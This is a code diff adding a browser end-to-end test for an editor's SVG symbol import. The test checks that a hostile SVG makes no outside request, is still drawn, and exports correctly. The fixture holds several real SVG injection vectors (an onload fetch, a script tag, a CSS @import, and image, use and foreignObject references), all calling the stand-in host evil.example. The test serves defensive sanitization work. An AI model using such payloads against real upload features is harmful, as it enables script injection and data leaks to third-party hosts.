@@ -183,4 +183,51 @@ journey('the editor of pictures', {}, (at) => {
     await saved()
     await expect.poll(async () => (await draft(Id)).items.map(({ of }) => of)).toEqual([`#${level} * 2`, `#${points[1]}`])
   })
+
+  it('a hostile SVG file becomes a symbol without a request to anywhere else, is drawn, and leaves with its picture', async () => {
+    const { page } = at
+    const Id = await draw('Mixer', [tank('a', 100, 200)])
+    const sent: string[] = []
+    page.on('request', (request) => {
+      sent.push(`${request.url()} ${request.postData() ?? ''}`)
+    })
+    const shapes = '<circle cx="50" cy="50" r="40" fill="none" stroke="black"/><path d="M50 10V90" stroke="#d9480f"/>'
+    const hostile = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('http://evil.example/1')"><style>@import url(http://evil.example/2);</style>
+      <image href="http://evil.example/3" width="9" height="9"/><use href="http://evil.example/4#a"/><script>fetch('http://evil.example/5')</script>
+      <foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="http://evil.example/6"/></foreignObject>${shapes}</svg>`
+    await page.getByRole('button', { name: 'Own symbols' }).click()
+    await page.getByRole('button', { name: 'From an SVG file…' }).click()
+    const dialog = page.getByRole('dialog', { name: 'New symbol' })
+    const file = { name: 'Mixer.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(hostile) }
+    await dialog.locator('input[type=file]').setInputFiles(file)
+    await dialog.getByText('scripts (×1)').waitFor()
+    await dialog.getByRole('textbox', { name: 'Name of part 1' }).fill('Casing')
+    await dialog.getByRole('combobox', { name: 'Part 1 is drawn as' }).click()
+    await page.getByTitle('Filled while it runs').click()
+    await expectAccessible(page)
+    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/symbol.png` })
+    await dialog.getByRole('button', { name: 'Save' }).click()
+    await page.getByRole('button', { name: 'Mixer', exact: true }).click()
+    await page.locator('[data-item="i2"]').waitFor()
+    await saved()
+    expect(await draft(Id)).toMatchObject({
+      items: [{}, { symbol: expect.stringMatching(/^own\./), name: 'Mixer' }],
+      symbols: [{ name: 'Mixer' }],
+    })
+    expect(sent.filter((one) => !one.startsWith(at.penstock.origin) || /evil|foreignObject|<svg/.test(one))).toEqual([])
+    expect(sent.filter((one) => one.includes('/Flowchart/Save')).map((one) => one.includes('"Patch"'))).toEqual([true])
+    await door.data('POST', `${path}/Publish`, { Id })
+    await visit(page, `/projectDetailsManagement/flowChart/${Id}`)
+    await page.locator('[data-item="i2"]').waitFor()
+    for (const [entry, kind] of [
+      ['Image of what is seen (PNG)', 'png'],
+      ['Whole picture (SVG)', 'svg'],
+    ] as const) {
+      const downloading = page.waitForEvent('download')
+      await page.getByRole('button', { name: 'Save or print' }).click()
+      await page.getByRole('menuitem', { name: entry }).click()
+      expect((await downloading).suggestedFilename()).toMatch(new RegExp(`^Mixer-.*\\.${kind}$`))
+      if (process.env.SHOTS) await (await downloading).saveAs(`${process.env.SHOTS}/picture.${kind}`)
+    }
+  })
 })
